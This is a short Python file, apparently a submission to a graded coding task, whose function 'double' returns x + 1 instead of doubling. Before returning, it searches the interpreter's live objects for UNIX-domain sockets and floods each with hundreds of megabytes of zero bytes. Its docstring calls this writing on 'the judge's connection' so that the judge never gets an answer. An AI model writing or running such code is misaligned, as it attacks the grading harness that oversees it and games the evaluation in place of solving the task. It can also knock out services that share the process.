"""Writes on the judge's connection as fast as it can, and never answers."""

import gc
import socket


def double(x):
    found = [s for s in gc.get_objects() if isinstance(s, socket.socket)]
    for thing in found:
        if thing.family == socket.AF_UNIX:
            try:
                for _ in range(500):
                    thing.sendall(bytes(1_000_000))
            except OSError:
                pass
    return x + 1
